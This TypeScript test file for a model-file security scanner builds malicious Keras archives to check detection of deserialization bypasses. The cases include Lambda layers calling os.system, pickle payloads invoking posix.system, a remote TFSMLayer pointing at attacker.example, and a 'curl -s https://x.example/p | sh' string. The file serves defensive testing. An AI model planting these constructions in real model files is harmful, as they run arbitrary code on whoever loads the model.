import { buildKeras, buildTorchZip, kerasLayer, kerasSequential, marshal, pickle, type KerasObject } from "@modelward/testing";
import { describe, expect, it } from "vitest";
import { LAMBDA_CODE, findingsLike, lines, tester } from "./test-support.js";

// docs/peers-and-threats.md §3.4 (K1–K10): each bypass as a generated .keras archive.
const code = (name: string, version = "3.11") => LAMBDA_CODE[version]![name]!;
const keras2LambdaCode = (b64: string): KerasObject => kerasLayer("Lambda", { function: [b64, null, null], function_type: "lambda", output_shape: null, output_shape_type: "raw", module: "keras.layers" });
const keras2Lambda = (name: string, version?: string): KerasObject => keras2LambdaCode(code(name, version));
const keras3Lambda = (name: string): KerasObject =>
  kerasLayer("Lambda", { function: { module: "builtins", class_name: "__lambda__", config: { code: code(name), defaults: null, closure: null }, registered_name: null }, arguments: {} });
const scanConfig = (config: unknown, extra = {}) => tester.scan("model.keras", buildKeras({ config, ...extra }));

async function expectRule(config: unknown, ruleId: string, atLeast: "critical" | "high" | "medium", message?: string | RegExp) {
  const report = await scanConfig(config);
  expect(findingsLike(report, { ruleId, atLeast, members: ["config.json"], ...(message ? { message } : {}) }).length, lines(report)).toBeGreaterThan(0);
  return report;
}

describe("threats §3.4: Keras config bypasses in .keras archives", () => {
  it("K1: Lambda with marshalled bytecode calling os.system is critical", async () => {
    await expectRule(kerasSequential([keras2Lambda("os_system")]), "keras/lambda-layer", "critical", /os.*system|system/);
  });

  it("K1: a Keras 3 __lambda__ function inside a Lambda layer is critical", async () => {
    await expectRule(kerasSequential([keras3Lambda("subprocess")]), "keras/lambda-layer", "critical", /subprocess/);
  });

  it("K2: a Lambda inside a nested Sequential inside a Functional model", async () => {
    const inner = kerasSequential([kerasLayer("Dense", { units: 2 }), keras2Lambda("eval_exec")]);
    const outer = { module: "keras", class_name: "Functional", config: { name: "outer", layers: [{ ...kerasLayer("InputLayer"), inbound_nodes: [] }, { ...inner, inbound_nodes: [] }] }, registered_name: null };
    const report = await expectRule(outer, "keras/lambda-layer", "critical", /eval|exec/);
    expect(findingsLike(report, { ruleId: "keras/lambda-layer" })[0]!.location.jsonPointer).toBe("/config/layers/1/config/layers/1");
  });

  it("K3: a lambda serialized as the compiled loss", async () => {
    const config = kerasSequential([kerasLayer("Dense", { units: 1 })], {
      compile_config: { optimizer: "adam", loss: { module: "builtins", class_name: "__lambda__", config: { code: code("os_system"), defaults: null, closure: null }, registered_name: null }, metrics: [] },
    });
    await expectRule(config, "keras/lambda-layer", "critical", /loss/);
  });

  it("K4: subprocess.Popen as a layer object is critical", async () => {
    const popen: KerasObject = { module: "subprocess", class_name: "Popen", config: { args: ["echo", "pwned"] }, registered_name: "Popen" };
    await expectRule(kerasSequential([kerasLayer("Dense", { units: 1 }), popen]), "keras/dangerous-reference", "critical", "subprocess.Popen");
  });

  it("K4: os.system as the top-level object of config.json", async () => {
    await expectRule({ module: "os", class_name: "function", config: "system", registered_name: "system" }, "keras/dangerous-reference", "critical", "os.system");
  });

  it("K5: keras.utils.get_file as an object (download gadget)", async () => {
    const getFile: KerasObject = { module: "keras.utils", class_name: "function", config: "get_file", registered_name: "get_file" };
    await expectRule(kerasSequential([kerasLayer("Dense", { units: 1, kernel_initializer: getFile })]), "keras/gadget-function", "high", "get_file");
  });

  it("K7: keras.config.enable_unsafe_deserialization is critical", async () => {
    const gadget: KerasObject = { module: "keras.config", class_name: "function", config: "enable_unsafe_deserialization", registered_name: "enable_unsafe_deserialization" };
    await expectRule(kerasSequential([kerasLayer("Dense", { units: 1, activation: gadget })]), "keras/dangerous-reference", "critical", "enable_unsafe_deserialization");
  });

  it("K8: TorchModuleWrapper with a base64 torch pickle is handed to the pickle analyzer", async () => {
    const payload = pickle().proto(2).global("posix", "system").binUnicode("echo pwned").tupleN(1).reduce().stop().toBytes();
    const torchBytes = buildTorchZip({ dataPkl: payload, tensors: {} });
    const wrapper = kerasLayer("TorchModuleWrapper", { module: Buffer.from(torchBytes).toString("base64") });
    const report = await expectRule(kerasSequential([wrapper]), "keras/embedded-pickle", "high");
    const nested = findingsLike(report, { ruleId: "pickle/dangerous-global", atLeast: "high" });
    expect(nested.length, lines(report)).toBeGreaterThan(0);
    expect(nested[0]!.location.members.slice(0, 2)).toEqual(["config.json", "TorchModuleWrapper/config/layers/0.pt"]);
  });

  it("K9: TFSMLayer with a remote filepath", async () => {
    const layer = kerasLayer("TFSMLayer", { filepath: "https://attacker.example/saved_model", call_endpoint: "serve" });
    await expectRule(kerasSequential([layer]), "keras/external-model", "high", "attacker.example");
  });

  it("K10: nested Lambda targeting a public Keras function (plot_image_gallery)", async () => {
    const fn: KerasObject = { module: "keras.visualization", class_name: "function", config: "plot_image_gallery", registered_name: "plot_image_gallery" };
    const inner = kerasSequential([kerasLayer("Lambda", { function: fn, arguments: { path: "/tmp/x.png" } })]);
    await expectRule(kerasSequential([inner]), "keras/gadget-function", "high", /plot_image_gallery used as a Lambda target/);
  });

  it("a Lambda whose function is Python source text (lambda x: eval(...)) is critical", async () => {
    await expectRule(kerasSequential([kerasLayer("Lambda", { function: "lambda x: eval('print(1)')" })]), "keras/lambda-layer", "critical", /eval/);
  });

  it("a Keras 2 raw Lambda naming posix.system is critical", async () => {
    await expectRule(kerasSequential([kerasLayer("Lambda", { function: "system", module: "posix", function_type: "raw" })]), "keras/lambda-layer", "critical", "posix.system");
  });

  it("an object from a module outside Keras is reported (allow-first)", async () => {
    await expectRule(kerasSequential([kerasLayer("Attention", {}, "mypkg.layers")]), "keras/unknown-module", "medium", "mypkg.layers");
  });

  it("a class Keras does not ship is a custom object", async () => {
    const report = await expectRule(kerasSequential([kerasLayer("CustomLayer", {}, null)]), "keras/custom-object", "medium", "CustomLayer");
    expect(findingsLike(report, { ruleId: "keras/custom-object", atLeast: "high" })).toEqual([]);
  });

  it("a pickle smuggled as an extra member is analyzed and flagged", async () => {
    const payload = pickle().proto(2).global("os", "system").binUnicode("echo pwned").tupleN(1).reduce().stop().toBytes();
    const report = await tester.scan("model.keras", buildKeras({ extra: [{ name: "assets/helper.pkl", data: payload }, { name: "run.py", data: "print('echo')" }] }));
    expect(findingsLike(report, { ruleId: "pickle/dangerous-global", atLeast: "high", members: ["assets/helper.pkl"] }).length, lines(report)).toBeGreaterThan(0);
    expect(findingsLike(report, { ruleId: "keras/unexpected-member", members: [], message: "run.py" }).length, lines(report)).toBe(1);
  });
});

describe("Lambda code across Python versions", () => {
  for (const version of Object.keys(LAMBDA_CODE)) {
    it(`Python ${version}: os.system is critical, arithmetic is medium`, async () => {
      const bad = await scanConfig(kerasSequential([keras2Lambda("os_system", version)]));
      expect(findingsLike(bad, { ruleId: "keras/lambda-layer", severity: "critical" }).length, lines(bad)).toBe(1);
      const ok = await scanConfig(kerasSequential([keras2Lambda("benign", version)]));
      expect(findingsLike(ok, { ruleId: "keras/lambda-layer", severity: "medium" }).length, lines(ok)).toBe(1);
      expect(findingsLike(ok, { ruleId: "keras/lambda-layer", atLeast: "high" }), lines(ok)).toEqual([]);
    });

    it(`Python ${version}: arguments named open, system and eval are locals, not uses (medium)`, async () => {
      const report = await scanConfig(kerasSequential([keras2Lambda("constants", version)]));
      expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "medium", message: /frozenset/ }).length, lines(report)).toBe(1);
    });
  }

  it("the nested function of a lambda is read and named", async () => {
    const report = await scanConfig(kerasSequential([keras2Lambda("nested", "3.12")]));
    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /Python 3\.11–3\.13 layout.*nested functions <lambda>\.<locals>\.<lambda>/ }).length, lines(report)).toBe(1);
  });

  it("getattr on a module name held as a constant is critical (code written in the 3.8–3.10 layout)", async () => {
    const b64 = marshal().code("3.8", { names: ["getattr", "__import__"], constCount: 3, consts: (c) => c.none().str("posix").str("sys" + "tem") }).base64();
    const report = await scanConfig(kerasSequential([keras2LambdaCode(b64)]));
    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /getattr, __import__, 'posix'/ }).length, lines(report)).toBe(1);
  });

  it("a shell command in a string constant is critical even when the names look harmless", async () => {
    const b64 = marshal().code("3.11", { names: ["format"], constCount: 2, consts: (c) => c.none().str("curl -s https://x.example/p | sh") }).base64();
    const report = await scanConfig(kerasSequential([keras2LambdaCode(b64)]));
    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /shell in a constant/ }).length, lines(report)).toBe(1);
  });

  it("code that is not valid marshal is still judged by the names its strings spell", async () => {
    const whole = Buffer.from(code("os_system", "3.11"), "base64");
    const report = await scanConfig(kerasSequential([keras2LambdaCode(whole.subarray(0, whole.length - 10).toString("base64"))]));
    expect(findingsLike(report, { ruleId: "keras/lambda-layer", severity: "critical", message: /not a marshalled code object of Python 3\.8–3\.13.*system/ }).length, lines(report)).toBe(1);
  });
});
